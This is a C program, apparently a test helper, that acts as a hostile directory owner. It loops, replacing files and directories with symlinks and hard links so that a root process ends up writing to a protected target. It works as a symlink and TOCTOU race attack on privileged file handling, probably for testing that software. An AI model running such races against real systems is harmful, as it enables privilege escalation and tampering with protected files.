/* race HOW DIR PRECIOUS: plays the owner of DIR, who wants root to change PRECIOUS or its file
 * `victim`, until it is killed. HOW:
 *   private  what root makes in DIR is replaced, by a link to PRECIOUS or by a directory with links
 *   parent   DIR/sub is now a directory and now a link to PRECIOUS
 *   final    DIR/conf is now a link to the victim, now another name of it, now a file
 *   link     wherever root takes a file away, or keeps one, a link to PRECIOUS takes its place
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

static char victim[4096];

static void replace_private(const char *precious, long n) {
    DIR *dir = opendir(".");
    if (!dir) return;
    struct dirent *entry;
    while ((entry = readdir(dir))) {
        struct stat found;
        char was[64], trap[512];
        if (strncmp(entry->d_name, ".rel-", 5) || lstat(entry->d_name, &found) ||
            !S_ISDIR(found.st_mode) || found.st_uid)
            continue;
        snprintf(was, sizeof was, ".was-%ld", n);
        if (rename(entry->d_name, was)) continue;
        if (n % 2) {
            symlink(precious, entry->d_name);
        } else {
            mkdir(entry->d_name, 0777);
            snprintf(trap, sizeof trap, "%s/new", entry->d_name);
            symlink(victim, trap);
        }
    }
    closedir(dir);
}

static void replace_parent(const char *precious, long n) {
    rename("sub", "sub.real");
    symlink(precious, "sub");
    usleep(n % 300);
    unlink("sub");
    rename("sub.real", "sub");
    usleep(n % 300);
}

static void replace_final(long n) {
    unlink("conf");
    if (n % 3 == 0) symlink(victim, "conf");
    else if (n % 3 == 1) link(victim, "conf");
    else close(open("conf", O_CREAT | O_WRONLY, 0666));
    usleep(n % 200);
}

static void plant_links(const char *precious, long n) {
    static const char *names[] = {"conf", "conf.copy", "conf.rel-saved", "conf.log", "conf.link"};
    for (int i = 0; i < 5; i++) symlink(precious, names[i]);
    if (n % 5000) return;
    /* What is not a link is the other user's own, so that root has something to move away. */
    for (int i = 0; i < 5; i++) unlink(names[i]);
    close(open("conf", O_CREAT | O_WRONLY, 0666));
    mkdir("conf.copy", 0777);
    usleep(20000);
}

int main(int count, char **words) {
    if (count != 4 || chdir(words[2])) return 2;
    alarm(120); /* Whatever becomes of the test. */
    snprintf(victim, sizeof victim, "%s/victim", words[3]);
    for (long n = 0;; n++) {
        if (!strcmp(words[1], "private")) replace_private(words[3], n);
        else if (!strcmp(words[1], "parent")) replace_parent(words[3], n);
        else if (!strcmp(words[1], "link")) plant_links(words[3], n);
        else replace_final(n);
    }
}
